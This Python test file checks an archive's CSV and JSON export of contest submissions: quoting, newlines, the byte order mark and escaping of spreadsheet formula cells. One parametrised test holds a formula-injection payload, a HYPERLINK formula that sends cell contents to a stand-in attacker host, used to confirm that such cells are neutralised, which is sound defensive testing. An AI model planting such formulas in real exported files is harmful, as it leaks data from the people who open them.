"""Exports are written a row at a time from whatever the cursor yields."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from typing import Any

import pytest

from archive.exports import COLUMNS, csv_lines, json_lines


def record(n: int) -> dict[str, Any]:
    return {
        "contest_id": "c",
        "submission_id": f"s-{n}",
        "applicant_id": "a",
        "category": "k",
        "status": "ranked",
        "country": "KR",
        "city": 'Seoul, "Special" City',
        "organisation": "",
        "title": "Line\nbreak",
        "latest_version": 2,
        "peer_groups": ["region:asia-pacific"],
        "screening": {"outcome": "eligible"},
        "scores": [{"scores": {"x": 4.0, "y": 6.0}}],
        "decisions": [{"round": "panel", "kind": "ranked", "rank": n}],
    }


async def cursor(count: int) -> AsyncIterator[dict[str, Any]]:
    for n in range(count):
        yield record(n)


async def test_csv_rows_survive_quotes_commas_and_newlines():
    text = "".join([chunk async for chunk in csv_lines(cursor(3))])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(COLUMNS)
    assert rows[1]["city"] == 'Seoul, "Special" City'
    assert rows[1]["title"] == "Line\nbreak"
    assert rows[2]["mean_raw_score"] == "5.0000"
    assert rows[2]["decisions"] == "panel:ranked:2"


async def test_json_export_is_one_valid_array_even_when_empty():
    assert json.loads("".join([c async for c in json_lines(cursor(0))])) == []
    exported = json.loads("".join([c async for c in json_lines(cursor(2))]))
    assert [r["submission_id"] for r in exported] == ["s-0", "s-1"]


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Open plan")',
        "+SUM(1)",
        "-2+3",
        "@cmd",
        "\t=1+1",
        "\r=1+1",
    ],
)
async def test_a_cell_a_spreadsheet_would_run_is_exported_with_a_leading_quote(cell: str):
    async def one() -> AsyncIterator[dict[str, Any]]:
        yield {**record(0), "title": cell, "organisation": cell}

    text = "".join([chunk async for chunk in csv_lines(one())])
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert (row["title"], row["organisation"]) == ("'" + cell, "'" + cell)


async def test_plain_text_numbers_and_inner_formula_signs_are_left_as_they_are():
    async def one() -> AsyncIterator[dict[str, Any]]:
        yield {**record(0), "title": "Net zero = 2050 @ Seoul", "organisation": "-0.25"}

    text = "".join([chunk async for chunk in csv_lines(one())])
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert (row["title"], row["organisation"]) == ("Net zero = 2050 @ Seoul", "-0.25")


async def test_the_bom_comes_once_before_the_header_only_when_asked():
    with_bom = "".join([chunk async for chunk in csv_lines(cursor(1), bom=True)])
    without = "".join([chunk async for chunk in csv_lines(cursor(1))])
    assert with_bom == "\ufeff" + without
